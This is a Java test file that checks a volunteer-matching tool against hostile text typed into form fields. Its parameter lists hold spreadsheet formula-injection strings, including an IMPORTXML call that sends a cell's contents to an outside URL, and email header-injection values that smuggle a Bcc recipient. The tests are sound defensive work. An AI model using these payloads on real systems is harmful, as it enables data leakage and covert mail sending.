package org.entraide.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.entraide.e2e.Town.ANA;
import static org.entraide.e2e.Town.BO;
import static org.entraide.people.word.Category.SHOPPING;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.entraide.hostile.HostileTexts;
import org.entraide.sandbox.sample.SampleForm;
import org.jspecify.annotations.NullMarked;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What people may type where a name is asked, and what must not come of it. */
@NullMarked
@Tag("long")
class HostileWordsTest {

  private static final int MOST_OCTETS_OF_A_LINE = 998;

  private static final List<String> HOSTILE =
      List.of(
          SampleForm.PHONE,
          SampleForm.PLACE,
          SampleForm.OFFERS,
          SampleForm.CAPACITY,
          SampleForm.RADIUS,
          SampleForm.LANGUAGES,
          SampleForm.VULNERABLE,
          SampleForm.AGE,
          SampleForm.NOTES);

  private static final Pattern OF_A_TASK =
      Pattern.compile(
          "=HYPERLINK\\(\"#gid=[0-9]+&range=[A-Z]+\"&MATCH\\(\"(?<ref>[0-9A-Z]{5,6})\";"
              + "'[^']+'!\\$[A-Z]+:\\$[A-Z]+;0\\);\"\\k<ref>\"\\)");

  @TempDir Path directory;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=IMPORTXML(\"http://example.org/?\"&A1;\"//a\")",
        "+33123456789",
        "@cmd",
        "-1+1",
        "=1+1",
        "\t=1+1",
        "\u202E=1+1"
      })
  void aNameThatIsAFormulaIsNoneInAnyCellAndInNoHeader(String name) {
    try (World world = World.empty(directory)) {
      world.answer(Town.ana());
      world.answer(Town.bo());
      typeNames(world, "'" + name);
      world.settle();

      assertNoFormulaOfOurs(world);
      Town.assertAnaAndBoAreDrafted(world);
      for (String header : headers(world.rawDrafts().get(0))) {
        assertThat(decoded(header)).doesNotContain(name.strip());
      }
      assertThat(world.mailbox().path("drafts").get(0).path("subject").asText())
          .startsWith("Entraide\u202F: mise en relation [M-");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Ana\r\nBcc: spy@example.org",
        "Ana\nSubject: other\n\nbody",
        "Ana\u2028X-Evil: 1",
        "\u202EanA\u202C \u200F",
        "Ana 👩‍👩‍👧‍👦 🎉",
        "Ana\u0000\u0007",
        "Ana <spy@example.org>, \"x\" ;",
        "x=?UTF-8?Q?=0ABcc:_spy@example.org?=x"
      })
  void aNameAddsNoHeaderAndNoRecipient(String name) {
    try (World world = World.empty(directory)) {
      world.answer(Town.ana().with(SampleForm.FIRST_NAME, name).with(SampleForm.LAST_NAME, name));
      world.answer(Town.bo().with(SampleForm.FIRST_NAME, "B" + name));
      world.settle();

      assertNoFormulaOfOurs(world);
      Town.assertAnaAndBoAreDrafted(world);
      assertPlainHeaders(world.rawDrafts().get(0));
    }
  }

  @Test
  void aNameOfFiveThousandLettersIsShortenedWhereItCanBeSeen() {
    try (World world = World.empty(directory)) {
      world.answer(
          Town.ana()
              .with(SampleForm.FIRST_NAME, "é".repeat(5000))
              .with(SampleForm.LAST_NAME, "ç".repeat(5000))
              .with(SampleForm.NOTES, "n".repeat(50_000)));
      world.answer(Town.bo());
      world.settle();

      Town.assertAnaAndBoAreDrafted(world);
      assertPlainHeaders(world.rawDrafts().get(0));
      JsonNode draft = world.mailbox().path("drafts").get(0);
      assertThat(draft.path("subject").asText()).contains("éé").contains("…").hasSizeLessThan(400);
      assertThat(draft.path("to").asText()).contains("…");
    }
  }

  @Test
  void aRowThatCannotBeUnderstoodSaysWhyAndHoldsUpNobody() {
    try (World world = World.empty(directory)) {
      world.answer(Reply.of("", "", "nameless@example.org").at("SW7"));
      world.answer(
          Reply.of("Peu", "Clair", "peu@example.org")
              .at("???")
              .with(SampleForm.NEEDS, "Xyzzy")
              .with(SampleForm.CAPACITY, "beaucoup")
              .with(SampleForm.PHONE, "12"));
      world.answer(Reply.of("Sans", "Age", "age@example.org").with(SampleForm.AGE, "abc"));
      world.answer(Town.ana());
      world.answer(Town.bo());
      int spoilt = world.rowOf("peu@example.org").number();
      world.sheet(
          "type",
          org.entraide.sandbox.office.http.OfficeJson.object()
              .put("range", world.answers().column(SampleForm.LANGUAGES) + spoilt)
              .put("value", "=1/0"));
      world.settle();

      assertThat(world.rowOf("nameless@example.org").status()).isEqualTo("Incomplet");
      assertThat(world.rowOf("nameless@example.org").explanation()).contains("ajoutez son nom");
      assertThat(world.rowOf("peu@example.org").status()).isEqualTo("En attente");
      assertThat(world.rowOf("peu@example.org").explanation())
          .contains("orientez la personne")
          .contains(" (+2 autres points)");
      assertThat(world.rowOf("age@example.org").status()).isEqualTo("Incomplet");
      assertThat(world.answers().lines())
          .allSatisfy(line -> assertThat(line.ref()).hasSize(5))
          .allSatisfy(line -> assertThat(line.explanation()).isNotEmpty());
      Town.assertAnaAndBoAreDrafted(world);
    }
  }

  /** Once a campaign stood still for an hour over fifty thousand digits. */
  @ParameterizedTest
  @ValueSource(strings = {"1", "oui ", "\u0301\u0316", "Σ", "a@", ",(", "12=", " \u00a0\n"})
  void anAnswerAsLongAsACellIsReadFromItsBeginningAndHoldsUpNobody(String piece) {
    String whole = piece.repeat(HostileTexts.LONGEST_CELL / piece.length());
    try (World world = World.empty(directory)) {
      Reply hostile = Reply.of("Eve", "Longue", "eve@example.org").at("SW7").needs(SHOPPING);
      for (String title : HOSTILE) {
        hostile = hostile.with(title, "x" + whole);
      }
      world.answer(hostile);
      world.answer(Town.ana());
      world.answer(Town.bo());
      world.settle();

      assertThat(world.rowOf("eve@example.org").explanation())
          .contains("raccourcissez ", " (+")
          .contains("1\u202f000 caractères sont lus");
      Town.assertAnaAndBoAreDrafted(world);
      Grid before = world.answers();
      world.settle();
      assertThat(world.answers()).isEqualTo(before);
    }
  }

  /** What organisers typed is theirs, however long; what counts of it is said. */
  @Test
  void aCellOfAnOrganiserAsLongAsACellStaysAndIsReadFromItsBeginning() {
    String tail = "\u00a0Σ1,(".repeat(9_000);
    try (World world = World.empty(directory)) {
      world.answer(Town.ana());
      world.answer(Town.bo());
      world.answer(Town.cy());
      world.settle();
      int row = world.rowOf(Town.CY).number();
      for (String title : List.of("Statut", "Explication", "Consigne", "Lieu corrigé")) {
        world.type(row, title, "Pause," + tail);
      }
      world.type(world.rowOf(ANA).number(), "Jamais avec", "Pause," + tail);
      world.settle();

      Grid.Line cy = world.rowOf(Town.CY);
      for (String title : List.of("Statut", "Explication", "Consigne", "Lieu corrigé")) {
        assertThat(cy.get(title)).isEqualTo("Pause," + tail);
      }
      world.clear(row, "Explication");
      world.settle();
      assertThat(world.rowOf(Town.CY).explanation())
          .contains(
              "Statut\u202f: votre texte reste",
              "Consigne (mot non compris)",
              "(+6 autres points)");
      assertThat(world.rowOf(ANA).explanation()).doesNotContain("premiers caractères");
    }
  }

  private static void typeNames(World world, String text) {
    for (String email : List.of(ANA, BO)) {
      int row = world.rowOf(email).number();
      world.type(row, SampleForm.FIRST_NAME, text);
      world.type(row, SampleForm.LAST_NAME, text);
    }
  }

  /** None but the links of À faire, which are made of the sheet, the column and the reference. */
  private static void assertNoFormulaOfOurs(World world) {
    List<JsonNode> cells = world.ownCells();
    assertThat(cells).hasSizeGreaterThan(20);
    assertThat(cells)
        .extracting(cell -> cell.path("userEnteredValue").path("formulaValue"))
        .allMatch(
            formula -> formula.isMissingNode() || OF_A_TASK.matcher(formula.asText()).matches());
  }

  private static void assertPlainHeaders(byte[] mail) {
    List<String> names = new ArrayList<>();
    for (String header : headers(mail)) {
      names.add(header.substring(0, header.indexOf(':')).toLowerCase(Locale.ROOT));
      assertThat(header.lines())
          .allSatisfy(line -> assertThat(line.length()).isLessThan(MOST_OCTETS_OF_A_LINE));
      assertThat(header).matches(Pattern.compile("\\p{ASCII}*", Pattern.DOTALL));
      assertThat(decoded(header)).doesNotContain("\u202E", "\u0000", "\n", "\r");
    }
    assertThat(names)
        .containsExactlyInAnyOrder(
            "from", "to", "subject", "mime-version", "content-type", "content-transfer-encoding");
    assertThat(recipients(mail)).containsExactlyInAnyOrder(ANA, BO);
  }

  private static List<String> recipients(byte[] mail) {
    try {
      String to = headers(mail).stream().filter(h -> h.startsWith("To:")).findFirst().orElse("To:");
      return java.util.Arrays.stream(
              jakarta.mail.internet.InternetAddress.parse(unfolded(to).substring(3)))
          .map(jakarta.mail.internet.InternetAddress::getAddress)
          .toList();
    } catch (jakarta.mail.internet.AddressException e) {
      throw new AssertionError(e);
    }
  }

  /** The headers, folded as they are. */
  private static List<String> headers(byte[] mail) {
    String text = new String(mail, StandardCharsets.UTF_8);
    String head = text.substring(0, text.indexOf("\r\n\r\n"));
    return List.of(head.split("\r\n(?![ \t])"));
  }

  private static String unfolded(String header) {
    return header.replace("\r\n", "");
  }

  private static String decoded(String header) {
    try {
      return jakarta.mail.internet.MimeUtility.decodeText(unfolded(header));
    } catch (java.io.UnsupportedEncodingException e) {
      throw new AssertionError(e);
    }
  }
}
